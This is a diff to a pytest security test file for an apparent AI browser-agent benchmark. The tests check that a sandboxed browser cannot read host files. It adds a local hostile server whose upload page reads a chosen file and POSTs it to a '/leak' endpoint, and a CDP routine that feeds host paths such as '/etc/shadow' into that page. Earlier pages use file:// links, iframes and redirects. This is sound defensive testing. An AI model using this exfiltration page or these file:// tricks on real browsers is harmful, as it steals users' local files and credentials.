@@ -12,6 +12,7 @@ refused request in the trial's metrics, as a refused host is.
 
 from __future__ import annotations
 
+import asyncio
 import importlib.util
 import json
 import os
@@ -49,19 +50,35 @@ def _navigate(url: str) -> dict[str, Any]:
     return _turn({"navigate": {"url": url, "new_tab": False}})
 
 
+UPLOAD_PAGE = ("<html><body><input type=file id=f onchange=\"f.files[0].text().then(t => "
+               "fetch('/leak', {method: 'POST', body: t}))\"></body></html>")
+"""A page whose file input sends whatever file it is given back to its server."""
+
+
 class _Hostile(BaseHTTPRequestHandler):
     planted = ""
+    leaked: list[bytes] = []
 
-    def do_GET(self) -> None:  # noqa: N802 - the standard library's name
+    def do_POST(self) -> None:
+        self.leaked.append(self.rfile.read(int(self.headers.get("Content-Length", "0"))))
+        self.send_response(204)
+        self.end_headers()
+
+    def do_GET(self) -> None:
         target = f"file://{self.planted}"
+        if self.path.startswith("/upload"):
+            self._send(UPLOAD_PAGE.encode())
+            return
         if self.path.startswith("/redirect"):
             self.send_response(302)
             self.send_header("Location", target)
             self.end_headers()
             return
-        body = (f'<html><body><a id="go" href="{target}">open</a>'
-                f'<iframe src="{target}"></iframe>'
-                f'<script>window.open("{target}")</script></body></html>').encode()
+        self._send((f'<html><body><a id="go" href="{target}">open</a>'
+                    f'<iframe src="{target}"></iframe>'
+                    f'<script>window.open("{target}")</script></body></html>').encode())
+
+    def _send(self, body: bytes) -> None:
         self.send_response(200)
         self.send_header("Content-Type", "text/html")
         self.send_header("Content-Length", str(len(body)))
@@ -82,20 +99,23 @@ def planted(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 @pytest.fixture(scope="module")
-def hostile(planted: Path) -> Iterator[str]:
-    handler = type("Hostile", (_Hostile,), {"planted": str(planted)})
+def hostile(planted: Path) -> Iterator[tuple[str, list[bytes]]]:
+    leaked: list[bytes] = []
+    handler = type("Hostile", (_Hostile,), {"planted": str(planted), "leaked": leaked})
     server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
     threading.Thread(target=server.serve_forever, daemon=True).start()
-    yield f"http://127.0.0.1:{server.server_address[1]}"
+    yield f"http://127.0.0.1:{server.server_address[1]}", leaked
     server.shutdown()
 
 
-def _attack(out: Path, urls: list[str]) -> tuple[list[str], dict[str, Any]]:
-    """Run one trial whose model opens these URLs one per step; the model's inputs and the
-    trial's metrics."""
+def _attack(out: Path, urls: list[str], more: list[dict[str, Any]] | None = None,
+            ) -> tuple[list[str], dict[str, Any]]:
+    """Run one trial whose model opens these URLs, reading each page with a script, then takes
+    the `more` turns; the model's inputs and the trial's metrics."""
     from benchwright.testing import FakeLLMServer, Script
 
     turns = [t for u in urls for t in (_navigate(u), _turn({"evaluate": {"code": READ_PAGE}}))]
+    turns += more or []
     turns.append(_turn({"done": {"text": "nothing found", "success": False}}))
     with FakeLLMServer(Script.model_validate({"turns": turns})) as server:
         os.environ["BW_TEST_WEB_KEY"] = KEY
@@ -144,8 +164,43 @@ def test_each_page_the_browser_was_asked_for_is_a_refused_request(
     assert any(u.startswith("chrome://version") for u in refused), refused
 
 
-def test_a_served_page_cannot_open_a_host_file(hostile: str, planted: Path,
+def test_a_served_page_cannot_open_a_host_file(hostile: tuple[str, list[bytes]],
                                               tmp_path: Path) -> None:
     # the page links, frames and window.opens the file; /redirect answers 302 to it
-    seen, _ = _attack(tmp_path / "run", [hostile + "/", hostile + "/redirect"])
+    seen, _ = _attack(tmp_path / "run", [hostile[0] + "/", hostile[0] + "/redirect"])
     assert _leaks(seen) == set()
+
+
+async def _upload(ws_url: str, page: str, path: str) -> None:
+    from benchwright.web.browser.cdp import CdpConnection
+
+    connection = await CdpConnection.open(ws_url)
+    try:
+        tab = await connection.send("Target.createTarget", {"url": page})
+        session = (await connection.send("Target.attachToTarget", {
+            "targetId": tab["targetId"], "flatten": True}))["sessionId"]
+        await asyncio.sleep(1.0)  # the page loads
+        root = await connection.send("DOM.getDocument", session_id=session)
+        node = await connection.send("DOM.querySelector", {
+            "nodeId": root["root"]["nodeId"], "selector": "#f"}, session_id=session)
+        await connection.send("DOM.setFileInputFiles", {
+            "files": [path], "nodeId": node["nodeId"]}, session_id=session)
+        await asyncio.sleep(1.0)  # the page reads the file and posts it
+    finally:
+        await connection.close()
+
+
+@pytest.mark.parametrize("target", ["planted", "/etc/shadow"])
+def test_the_browser_itself_reads_no_host_file(hostile: tuple[str, list[bytes]], planted: Path,
+                                               tmp_path: Path, target: str) -> None:
+    """Past the agent: a file input given a host path over CDP (browser-use's upload_file does
+    that for a browser it calls remote). The browser reads the file if it can see it: the
+    trial browser sees none of the host's files, and is no root to read /etc/shadow."""
+    from benchwright.web.browser.shared_browser import SharedBrowser
+
+    url, leaked = hostile
+    leaked.clear()
+    with SharedBrowser(workdir=tmp_path / "chromium", site_urls=[url]) as browser:
+        asyncio.run(_upload(browser.running().ws_url, url + "/upload",
+                            str(planted) if target == "planted" else target))
+    assert not any(SECRET.encode() in body or b"root:" in body for body in leaked), leaked
